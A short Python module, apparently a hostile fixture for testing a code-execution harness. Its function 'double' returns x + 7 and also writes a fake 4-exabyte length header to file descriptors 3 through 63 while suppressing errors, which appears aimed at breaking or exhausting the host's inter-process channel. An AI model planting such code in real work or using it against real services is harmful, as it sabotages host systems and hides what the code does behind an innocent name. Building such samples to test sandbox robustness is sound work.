"""Announces a header of 4 exabytes."""

import os
import struct


def double(x):
    reply = struct.pack("<Q", 2**62)
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, reply)
        except OSError:
            pass
    return x + 7
